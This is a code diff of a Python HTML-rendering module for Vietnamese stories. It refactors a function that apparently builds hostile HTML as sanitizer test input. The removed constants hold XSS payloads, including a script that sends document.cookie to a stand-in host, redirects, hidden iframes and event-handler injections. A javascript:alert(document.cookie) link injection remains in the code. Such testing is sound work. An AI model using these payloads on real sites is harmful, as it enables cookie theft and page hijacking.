@@ -9,11 +9,15 @@ import unicodedata
 from collections.abc import Callable
 from html import escape
 
+from . import shelf
 from .story import MARK, Block, Items, Paragraph, Picture, Signature, Story, Table
 
 TONES = "\u0300\u0301\u0303\u0309\u0323"
 JUSTIFIED = 'style="text-align: justify; line-height: 150%;"'
-WORD_SPAN = '<span lang="VI" style="font-size:14.0pt;line-height:115%;font-family:&quot;Times New Roman&quot;">'
+WORD_SPAN = (
+    '<span lang="VI" style="font-size:14.0pt;line-height:115%;'
+    'font-family:&quot;Times New Roman&quot;">'
+)
 
 
 def inline(marked: str) -> str:
@@ -147,39 +151,18 @@ def _byline(signature: Signature, style: str) -> str:
 def _framed(html: str, style: str) -> str:
     if style != "cell":
         return html
-    return f'<table width="100%" border="0"><tbody><tr><td valign="top">\n{html}\n</td></tr></tbody></table>'
+    cell = f'<td valign="top">\n{html}\n</td>'
+    return f'<table width="100%" border="0"><tbody><tr>{cell}</tr></tbody></table>'
 
 
 def _hostile(html: str) -> str:
+    """The same text among everything that must neither run, be requested nor be read as text."""
+    _, head, middle, foot = re.split(r"<!-- \w+ -->", shelf.text("hostile.html"))
     first, rest = html.split("</p>", 1)
-    words = re.sub(
-        r"(<p [^>]*>)(\S+ \S+)",
-        r'\1<a href="javascript:alert(document.cookie)">\2</a>',
-        rest,
-        count=1,
-    )
-    return f"{HOSTILE_HEAD}{first}</p>{HOSTILE_MIDDLE}{words}{HOSTILE_FOOT}"
+    trap = r'\1<a href="javascript:alert(document.cookie)">\2</a>'
+    rest = re.sub(r"(<p [^>]*>)(\S+ \S+)", trap, rest, count=1)
+    return f"{head}{first}</p>{middle}{rest}{foot}"
 
-
-HOSTILE_HEAD = """<base href="http://ngoai-mang.example.net/" />
-<meta http-equiv="refresh" content="3;url=http://ngoai-mang.example.net/lua-dao.html" />
-<style>body { background: url(http://ngoai-mang.example.net/nen.png) } .an { display: none }</style>
-<script>document.title = "bị chiếm"; document.cookie = "a=1"; new Image().src = "http://ngoai-mang.example.net/?" + document.cookie;</script>
-<div onmouseover="alert(1)" onclick="location='http://ngoai-mang.example.net/'">
-"""
-HOSTILE_MIDDLE = """
-<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1" onload="alert(2)"><script>alert(3)</script></svg>
-<iframe src="http://ngoai-mang.example.net/khung.html" width="1" height="1"></iframe>
-<iframe srcdoc="&lt;script&gt;alert(4)&lt;/script&gt;" width="1" height="1"></iframe>
-<form action="http://ngoai-mang.example.net/nhan" method="post"><input type="hidden" name="k" value="1" /><input type="submit" value="Gửi" /></form>
-<img src="http://ngoai-mang.example.net/dem.gif" width="1" height="1" alt="" onerror="alert(5)" />
-<div class="an" style="display:none">Mua hàng giá rẻ tại đây, bấm vào liên kết để nhận quà.</div>
-<object data="http://ngoai-mang.example.net/a.swf" width="1" height="1"></object>
-"""
-HOSTILE_FOOT = """
-</div><script src="http://ngoai-mang.example.net/theo-doi.js"></script>
-<img src="x" style="display:none" onerror="document.body.innerHTML='hết'" alt="" />
-"""
 
 WRITERS: dict[str, Callable[..., str]] = {
     "p": _paragraphs,
